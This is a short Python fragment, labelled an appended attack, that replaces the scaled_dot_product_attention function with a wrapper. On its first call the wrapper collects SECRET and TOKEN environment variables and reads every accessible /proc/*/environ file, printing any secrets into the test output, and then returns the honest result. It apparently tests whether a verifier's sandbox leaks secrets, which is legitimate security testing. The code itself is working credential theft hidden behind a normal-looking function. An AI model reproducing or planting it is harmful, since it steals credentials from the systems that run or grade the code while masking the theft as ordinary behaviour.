# --- appended attack: look for the verifier's secrets, then behave -----------
# Reads its own environment and every /proc/*/environ it can, and prints what
# it finds into the test output (the only channel back). Expected: nothing.
import os as _os

_honest_sdpa = scaled_dot_product_attention
_tried = []


def _steal():
    found = [f"{k}={v}" for k, v in _os.environ.items() if "SECRET" in k or "TOKEN" in k]
    readable = 0
    for entry in _os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            data = open(f"/proc/{entry}/environ", "rb").read()
        except OSError:
            continue
        readable += 1
        found += [part.decode(errors="replace") for part in data.split(b"\0") if b"SECRET" in part]
    print(f"ATTEMPT env: {len(found)} secrets found in {readable} readable environments: {found}")


def scaled_dot_product_attention(*args, **kwargs):
    if not _tried:
        _tried.append(1)
        _steal()
    return _honest_sdpa(*args, **kwargs)
